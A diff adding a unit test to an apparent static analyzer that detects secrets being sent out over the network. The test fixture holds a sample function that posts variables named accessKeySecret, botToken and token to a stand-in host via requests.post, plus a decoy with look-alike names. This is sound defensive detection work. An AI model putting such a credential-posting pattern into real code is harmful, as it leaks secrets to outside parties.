@@ -585,3 +585,15 @@ def test_a_helper_that_names_its_own_lambdas_is_inlined() -> None:
     )
     sent = next(f for f in result.facts if f.name == "urllib.request.urlopen")
     assert sent.args and sent.args[0] == "https://visit.read.example.com"
+
+
+def test_words_that_name_a_secret_and_words_that_do_not() -> None:
+    result = analyze(
+        "import requests\n"
+        "def a(tokenizer, max_tokens, token_ids, monkey):\n"
+        "    requests.post('https://h.example/x', json=[tokenizer, max_tokens, token_ids, monkey])\n"
+        "def b(accessKeySecret, botToken, token):\n"
+        "    requests.post('https://h.example/x', json=[accessKeySecret, botToken, token])\n"
+    )
+    sent = [(f.location.line, f.args) for f in result.facts if f.kind is FactKind.SECRET_SENT]
+    assert sent == [(5, ("accessKeySecret", "botToken", "token"))]
